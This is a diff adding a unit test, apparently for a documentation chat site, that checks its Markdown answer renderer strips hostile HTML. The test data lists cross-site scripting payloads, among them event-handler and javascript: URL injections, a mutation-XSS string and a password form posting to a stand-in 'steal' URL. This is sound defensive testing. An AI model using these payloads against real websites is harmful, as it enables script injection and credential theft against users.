@@ -30,6 +30,33 @@ describe('rendering an answer', () => {
     expect(html).not.toMatch(/onerror|<script|javascript:/);
   });
 
+  it('keeps only what Markdown produces: no <style>, forms, frames, images or dangerous URLs, text kept', () => {
+    const hostile = [
+      '<style>body { display: none }</style>',
+      '<form action="https://example.com/steal"><input name="password"><button formaction="javascript:alert(1)">go</button></form>',
+      '<iframe srcdoc="<script>alert(2)</script>"></iframe>',
+      '<img src="https://example.com/pixel.gif">',
+      '<details open ontoggle="alert(3)">summary text</details>',
+      '<svg><a xlink:href="javascript:alert(4)"><text>svg link</text></a></svg>',
+      '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg==) [vb](vbscript:alert(6)) <a href="&#106;avascript:alert(7)">entity</a>',
+    ].join('\n\n');
+    // Last: its unclosed <style> swallows whatever follows it.
+    const mutation = '<math><mtext><table><mglyph><style><img src=x onerror=alert(8)>';
+    const html = answerBlocks(`Intro **kept**.\n\n${hostile}\n\n[docs](/docs/advanced/decorators) and [python.org](https://www.python.org/)\n\n${mutation}`)
+      .map((block) => (block.kind === 'html' ? block.html : ''))
+      .join('');
+    const container = document.createElement('div');
+    container.innerHTML = html;
+    expect(container.querySelectorAll('style, form, input, button, iframe, img, svg, math, details, script')).toHaveLength(0);
+    expect([...container.querySelectorAll('*')].flatMap((element) => [...element.attributes].map((attribute) => attribute.name))).not.toContainEqual(
+      expect.stringMatching(/^on|srcdoc|formaction|xlink/i),
+    );
+    expect([...container.querySelectorAll('a[href]')].map((link) => link.getAttribute('href'))).toEqual(['/docs/advanced/decorators', 'https://www.python.org/']);
+    expect(container.textContent).toContain('summary text');
+    expect(container.textContent).toContain('entity');
+    expect(container.querySelector('strong')?.textContent).toBe('kept');
+  });
+
   it('follows links to PyDocs pages inside the site', async () => {
     render(
       <MemoryRouter initialEntries={['/chat']}>
